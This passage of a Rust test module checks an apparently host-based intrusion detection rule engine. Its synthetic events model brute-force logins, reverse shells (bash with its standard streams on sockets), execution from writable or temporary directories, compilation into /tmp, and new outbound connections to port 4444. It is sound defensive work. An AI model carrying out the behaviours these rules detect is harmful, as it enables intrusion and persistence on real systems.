    }

    #[test]
    fn brute_force_windows_thresholds_and_success() {
        let mut engine = RuleEngine::default();
        let minute = 60_000;
        // Four failures: nothing; the fifth inside the window: failed brute force.
        for i in 0..4 {
            assert!(engine
                .observe(
                    "d",
                    &login("bob", Some("10.0.0.9"), LoginResult::Fail, T0 + i * minute)
                )
                .is_empty());
        }
        let found = engine.observe(
            "d",
            &login("bob", Some("10.0.0.9"), LoginResult::Fail, T0 + 4 * minute),
        );
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].rule, Rule::FailedBruteForce);
        assert_eq!(found[0].key, "bob@10.0.0.9");
        assert_eq!(found[0].event_ids.len(), 5);
        // Then a success: successful brute force with the six events as evidence.
        let found = engine.observe(
            "d",
            &login("bob", Some("10.0.0.9"), LoginResult::Success, T0 + 5 * minute),
        );
        assert_eq!(
            found.iter().map(|f| f.rule).collect::<Vec<_>>(),
            vec![Rule::SuccessfulBruteForce]
        );
        assert_eq!(found[0].event_ids.len(), 6);
        // Failures spread wider than the window never add up; another device is apart.
        let mut engine = RuleEngine::default();
        for i in 0..10 {
            assert!(engine
                .observe(
                    "d",
                    &login("eve", Some("10.0.0.8"), LoginResult::Fail, T0 + i * 3 * minute)
                )
                .is_empty());
        }
        for i in 0..4 {
            engine.observe("e", &login("eve", Some("10.0.0.8"), LoginResult::Fail, T0 + i));
        }
        assert!(engine
            .observe("f", &login("eve", Some("10.0.0.8"), LoginResult::Fail, T0 + 5))
            .is_empty());
        // A local success is a local login (and no brute force without failures).
        let found = engine.observe("d", &login("root", None, LoginResult::Success, T0));
        assert_eq!(
            found.iter().map(|f| f.rule).collect::<Vec<_>>(),
            vec![Rule::SuccessfulLocalLogin]
        );
    }

    #[test]
    fn snapshots_diff_against_the_first_as_baseline() {
        let mut engine = RuleEngine::default();
        let ports = |list: &[&str]| {
            event(
                EventName::ListeningPorts,
                list.iter()
                    .map(|p| {
                        PayloadItem::ListeningPorts(ListeningPorts {
                            remote_address: None,
                            remote_port: None,
                            local_address: Some("0.0.0.0".parse().expect("ip")),
                            local_port: (*p).into(),
                            protocol: Protocol::Tcp,
                            extra_details: Default::default(),
                        })
                    })
                    .collect(),
                T0,
            )
        };
        assert!(
            engine.observe("d", &ports(&["22"])).is_empty(),
            "the first snapshot is the baseline"
        );
        let found = engine.observe("d", &ports(&["22", "4444"]));
        assert_eq!(found.len(), 1);
        assert_eq!(
            (found[0].rule, found[0].key.as_str()),
            (Rule::NewListeningPort, "TCP/4444")
        );
        assert!(engine.observe("d", &ports(&["22"])).is_empty());
        assert!(
            engine.observe("d", &ports(&["22", "4444"])).is_empty(),
            "seen before"
        );

        let users = |list: &[(&str, &str)]| {
            event(
                EventName::LocalUsers,
                list.iter()
                    .map(|(u, g)| {
                        PayloadItem::LocalUsers(LocalUsers {
                            group_ids: String::new(),
                            group_names: (*g).into(),
                            user_id: "1000".into(),
                            user_name: (*u).into(),
                            extra_details: Default::default(),
                        })
                    })
                    .collect(),
                T0,
            )
        };
        assert!(engine.observe("d", &users(&[("root", "root")])).is_empty());
        let found = engine.observe("d", &users(&[("root", "root"), ("bob", "bob")]));
        assert_eq!(
            found.iter().map(|f| f.rule).collect::<Vec<_>>(),
            vec![Rule::UserAdded]
        );
        let found = engine.observe("d", &users(&[("root", "root"), ("bob", "bob;sudo")]));
        assert_eq!(
            found.iter().map(|f| f.rule).collect::<Vec<_>>(),
            vec![Rule::PrivilegedGroup]
        );

        let firewall = |n: usize| {
            let item = crate::console::model::FirewallConfiguration {
                priority: None,
                direction: None,
                chain_name: Some("input".into()),
                application: None,
                enabled: true,
                action: crate::console::model::FirewallAction::Deny,
                source_address: None,
                source_port: None,
                destination_address: None,
                destination_port: None,
                protocol: None,
                extra_details: Default::default(),
            };
            event(
                EventName::FirewallConfiguration,
                vec![PayloadItem::FirewallConfiguration(item); n],
                T0,
            )
        };
        assert!(engine.observe("d", &firewall(3)).is_empty());
        let found = engine.observe("d", &firewall(0));
        assert_eq!(
            found.iter().map(|f| f.rule).collect::<Vec<_>>(),
            vec![Rule::FirewallDisabled]
        );
        assert!(engine.observe("d", &firewall(0)).is_empty());
    }

    #[test]
    fn operational_events_and_reported_status() {
        let mut engine = RuleEngine::default();
        let rejected = event(
            EventName::ConfigurationError,
            vec![PayloadItem::ConfigurationError(ConfigurationError {
                configuration_name: "snapshotFrequency".into(),
                error_type: ConfigurationErrorType::TypeMismatch,
                used_configuration: "\"PT13H\"".into(),
                message: "expected a duration".into(),
                extra_details: Default::default(),
            })],
            T0,
        );
        assert_eq!(
            engine.observe("d", &rejected)[0].rule,
            Rule::ConfigurationRejected
        );
        let drops = |n| {
            event(
                EventName::DroppedEventsStatistics,
                vec![PayloadItem::DroppedEventsStatistics(
                    DroppedEventsStatistics::new(Queue::Low, 10, n),
                )],
                T0,
            )
        };
        assert!(engine.observe("d", &drops(0)).is_empty());
        assert_eq!(engine.observe("d", &drops(3))[0].rule, Rule::MonitoringDegraded);
        let reported = serde_json::json!({"twinguard": {
            "configurationStatus": "rejected", "errors": ["x: bad"], "lastDesiredVersion": 4,
            "collectors": {"Login": {"source": "utmp", "fallback": true}, "ProcessCreate": {"source": "ebpf", "fallback": false}}
        }});
        let found = engine.observe_reported(&reported, T0);
        assert_eq!(
            found.iter().map(|f| (f.rule, f.key.as_str())).collect::<Vec<_>>(),
            vec![
                (Rule::ConfigurationRejected, "desired-version-4"),
                (Rule::MonitoringDegraded, "fallback-Login")
            ]
        );
        assert!(engine.observe_reported(&serde_json::json!({}), T0).is_empty());
    }

    #[test]
    fn silence_uses_the_floor_or_twice_the_frequency() {
        let engine = RuleEngine::default();
        let minute = 60_000;
        assert!(engine.silent(T0, None, T0 + 14 * minute).is_none());
        let found = engine.silent(T0, None, T0 + 16 * minute).expect("silent");
        assert_eq!(
            (found.rule, found.key.clone()),
            (Rule::DeviceSilent, format!("since-{T0}"))
        );
        // A device that reports every 20 minutes is silent after 40.
        assert!(engine.silent(T0, Some(20 * minute), T0 + 39 * minute).is_none());
        assert!(engine.silent(T0, Some(20 * minute), T0 + 41 * minute).is_some());
    }

    #[test]
    fn dedup_window_and_process_events() {
        let s = RuleSettings::default();
        assert!(merges_into(T0, T0 + s.dedup_window_ms, &s));
        assert!(!merges_into(T0, T0 + s.dedup_window_ms + 1, &s));
        let mut engine = RuleEngine::default();
        let found = engine.observe("d", &exec("/tmp/tg/evil", "/tmp/tg/evil"));
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].event_ids.len(), 1);
        assert!(found[0]
            .fields
            .iter()
            .any(|(k, v)| k == "Executable" && v == "/tmp/tg/evil"));
        assert_eq!(Severity::parse("HIGH"), Some(Severity::High));
        assert!(Rule::ALL.iter().all(|r| Rule::parse(r.id()) == Some(*r)));
    }

    fn exec_with(exe: &str, cmd: &str, facts: &[(&str, &str)]) -> Event {
        event(
            EventName::ProcessCreate,
            vec![PayloadItem::ProcessCreate(ProcessCreate {
                executable: exe.into(),
                process_id: 43,
                parent_process_id: 1,
                user_id: "0".into(),
                user_name: None,
                command_line: cmd.into(),
                extra_details: facts
                    .iter()
                    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                    .collect(),
            })],
            T0,
        )
    }

    fn rule_ids(found: &[Finding]) -> Vec<&'static str> {
        found.iter().map(|f| f.rule.id()).collect()
    }

    #[test]
    fn exec_facts_reverse_shell_and_writable_locations() {
        let mut engine = RuleEngine::default();
        // A shell with stdin and stdout on sockets, whatever its command line.
        let found = engine.observe(
            "d",
            &exec_with(
                "/usr/bin/bash",
                "bash -i",
                &[("Stdin", "socket"), ("Stdout", "socket"), ("Stderr", "socket")],
            ),
        );
        assert_eq!(rule_ids(&found), vec!["reverse-shell"]);
        assert!(found[0].fields.iter().any(|(k, v)| k == "Stdin" && v == "socket"));
        // Near misses: only stdin on a socket (inetd-style input), a pipe, or not a shell.
        for facts in [
            &[("Stdin", "socket"), ("Stdout", "pipe")][..],
            &[("Stdin", "pipe"), ("Stdout", "socket")][..],
            &[("Stdin", "tty"), ("Stdout", "tty")][..],
        ] {
            assert!(
                engine
                    .observe("d", &exec_with("/usr/bin/bash", "bash -i", facts))
                    .is_empty(),
                "{facts:?}"
            );
        }
        assert!(engine
            .observe(
                "d",
                &exec_with(
                    "/usr/sbin/sshd",
                    "sshd -i",
                    &[("Stdin", "socket"), ("Stdout", "socket")]
                )
            )
            .is_empty());
        // A deleted or memfd executable, or one in a writable directory, outside /tmp too.
        for fact in ["ExecutableDeleted", "ExecutableMemfd", "WritableDirectory"] {
            let found = engine.observe("d", &exec_with("/home/pi/.cache/x", "x", &[(fact, "True")]));
            assert_eq!(rule_ids(&found), vec!["temp-dir-execution"], "{fact}");
            assert!(found[0].fields.iter().any(|(k, _)| k == fact));
        }
        // Near miss: the facts present and all false.
        assert!(engine
            .observe(
                "d",
                &exec_with(
                    "/usr/bin/ls",
                    "ls",
                    &[
                        ("ExecutableDeleted", "False"),
                        ("WritableDirectory", "False"),
                        ("Stdin", "tty")
                    ]
                )
            )
            .is_empty());
        // Facts and the path both say so: one finding, not two.
        let found = engine.observe(
            "d",
            &exec_with("/tmp/x", "/tmp/x", &[("WritableDirectory", "True")]),
        );
        assert_eq!(rule_ids(&found), vec!["temp-dir-execution"]);
    }

    #[test]
    fn compilation_into_a_temporary_directory() {
        let cases: &[(&str, &str, &[&str])] = &[
            (
                "/usr/bin/x86_64-linux-gnu-gcc-12",
                "gcc -o /tmp/x x.c",
                &["suspicious-compilation"],
            ),
            (
                "/usr/bin/clang-16",
                "clang x.c -o/dev/shm/.k",
                &["suspicious-compilation"],
            ),
            (
                "/usr/bin/tcc",
                "tcc -o /var/tmp/a a.c",
                &["suspicious-compilation"],
            ),
            (
                "/usr/bin/x86_64-linux-gnu-ld.bfd",
                "ld -o /tmp/pay a.o",
                &["suspicious-compilation"],
            ),
            // Near misses: a build elsewhere, the driver's own intermediates in /tmp, a
            // non-compiler writing to /tmp.
            ("/usr/bin/gcc", "gcc -o /home/pi/app app.c", &[]),
            (
                "/usr/bin/x86_64-linux-gnu-as",
                "as --64 -o /tmp/ccAbc123.o /tmp/ccXyz789.s",
                &[],
            ),
            ("/usr/bin/sort", "sort -o /tmp/sorted in.txt", &[]),
            ("/usr/bin/gcc", "gcc /tmp/x.c", &[]),
        ];
        for (exe, cmd, want) in cases {
            assert_eq!(rules_of(exe, cmd), *want, "{exe}: {cmd}");
        }
    }

    #[test]
    fn new_outbound_destination_after_learning() {
        let settings = RuleSettings {
            outbound_learning_ms: 60_000,
            ..RuleSettings::default()
        };
        let mut engine = RuleEngine::new(settings);
        let connect = |exe: &str, to: &str, port: &str, ms: i64, direction: Direction| {
            event(
                EventName::ConnectionCreate,
                vec![PayloadItem::ConnectionCreate(
                    crate::console::model::ConnectionCreate {
                        remote_address: to.parse().expect("ip"),
                        remote_port: port.into(),
                        local_address: None,
                        local_port: None,
                        direction,
                        protocol: Protocol::Tcp,
                        process_id: 7,
                        user_id: None,
                        executable: exe.into(),
                        command_line: None,
                        extra_details: Default::default(),
                    },
                )],
                ms,
            )
        };
        // Learning: anything goes.
        assert!(engine
            .observe(
                "d",
                &connect("/usr/bin/curl", "10.0.0.1", "443", T0, Direction::Out)
            )
            .is_empty());
        assert!(engine
            .observe(
                "d",
                &connect("/usr/bin/curl", "10.0.0.2", "443", T0 + 59_000, Direction::Out)
            )
            .is_empty());
        // After it: a known destination is quiet, a new one fires once, inbound never does.
        let after = T0 + 61_000;
        assert!(engine
            .observe(
                "d",
                &connect("/usr/bin/curl", "10.0.0.1", "443", after, Direction::Out)
            )
            .is_empty());
        let found = engine.observe(
            "d",
            &connect("/usr/bin/curl", "203.0.113.9", "4444", after, Direction::Out),
        );
        assert_eq!(rule_ids(&found), vec!["new-outbound-destination"]);
        assert_eq!(found[0].key, "/usr/bin/curl -> 203.0.113.9:4444");
        assert!(engine
            .observe(
                "d",
                &connect("/usr/bin/curl", "203.0.113.9", "4444", after + 1, Direction::Out)
            )
            .is_empty());
        // Per executable: another program to a destination curl knows is new.
        let found = engine.observe("d", &connect("/tmp/x", "10.0.0.1", "443", after, Direction::Out));
        assert_eq!(rule_ids(&found), vec!["new-outbound-destination"]);
        assert!(engine
            .observe(
                "d",
                &connect("/usr/sbin/sshd", "198.51.100.1", "50000", after, Direction::In)
            )
            .is_empty());
        // Another device is still learning.
        assert!(engine
            .observe(
                "e",
                &connect("/usr/bin/curl", "203.0.113.9", "4444", after, Direction::Out)
            )
            .is_empty());
    }

    #[test]
    fn pending_configuration_and_unclean_offline() {
        let settings = RuleSettings {
            config_pending_ms: 60_000,
            offline_grace_ms: 30_000,
            ..RuleSettings::default()
        };
        let mut engine = RuleEngine::new(settings);
        // Applied: nothing; pending: nothing until the time is up, then one key per version.
        assert!(engine.config_pending("d", 3, Some(3), T0).is_none());
        assert!(engine.config_pending("d", 4, Some(3), T0).is_none());
        assert!(engine.config_pending("d", 4, Some(3), T0 + 59_000).is_none());
        let found = engine
            .config_pending("d", 4, Some(3), T0 + 61_000)
            .expect("pending too long");
        assert_eq!(
            (found.rule, found.key.as_str()),
            (Rule::MonitoringDegraded, "config-pending-4")
        );
        // Applied at last: the wait starts over.
        assert!(engine.config_pending("d", 4, Some(4), T0 + 62_000).is_none());
        assert!(engine.config_pending("d", 5, Some(4), T0 + 63_000).is_none());
        // No reported version (not an agent): never.
        assert!(engine.config_pending("e", 9, None, T0 + 10_000_000).is_none());

        // A clean stop never counts; an unclean end does after the grace, unless it came back.
        engine.connection_ended("d", true, T0);
        assert!(engine.offline_unclean("d", T0 + 100_000).is_none());
        engine.connection_ended("d", false, T0);
        assert!(engine.offline_unclean("d", T0 + 29_000).is_none());
        let found = engine.offline_unclean("d", T0 + 31_000).expect("offline");
        assert_eq!(found.key, format!("offline-{T0}"));
        engine.connection_started("d");
        assert!(engine.offline_unclean("d", T0 + 100_000).is_none());
        assert!(engine.offline_unclean("never-seen", T0).is_none());
    }
}
